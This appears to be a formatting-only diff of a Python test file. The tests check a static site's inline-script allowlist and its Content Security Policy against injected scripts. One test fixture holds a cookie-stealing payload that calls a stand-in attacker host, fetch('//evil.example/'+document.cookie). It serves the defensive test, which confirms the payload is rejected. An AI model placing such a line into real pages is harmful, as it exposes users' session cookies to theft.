@@ -98,7 +98,9 @@ def test_the_allowlist_refuses_a_script_no_template_writes_and_counts_the_ones_i
     allowlist = ScriptAllowlist(lambda name, base_url: f"<script>theme({base_url!r})</script>" if name.endswith("base.html") else "")
     allowlist.check("<p>x</p><script>theme('../')</script>", "docs/a.md", "../")
     assert allowlist.hashes() == [script_hash("theme('../')")]
-    with pytest.raises(UnknownScript, match=r"docs/b.md: an inline script that no template of the site writes: \"fetch\('//evil.example/'\+document.cookie\)\""):
+    with pytest.raises(
+        UnknownScript, match=r"docs/b.md: an inline script that no template of the site writes: \"fetch\('//evil.example/'\+document.cookie\)\""
+    ):
         allowlist.check("<script>theme('.')</script><script>\nfetch('//evil.example/'+document.cookie)</script>", "docs/b.md", ".")
     with pytest.raises(UnknownScript):
         allowlist.check("<script>theme('../')</script>", "docs/c.md", ".")  # the theme's script for another depth
@@ -124,7 +126,9 @@ def test_an_injected_inline_script_is_blocked_by_the_csp(example_site, browser, 
     headers = (site / "_headers").read_text()
     url, server = serve(site, lambda path: rule_for(headers, path))
     context = browser.new_context()
-    context.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective));")
+    context.add_init_script(
+        "window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective));"
+    )
     page = context.new_page()
     try:
         page.goto(url + "about/")
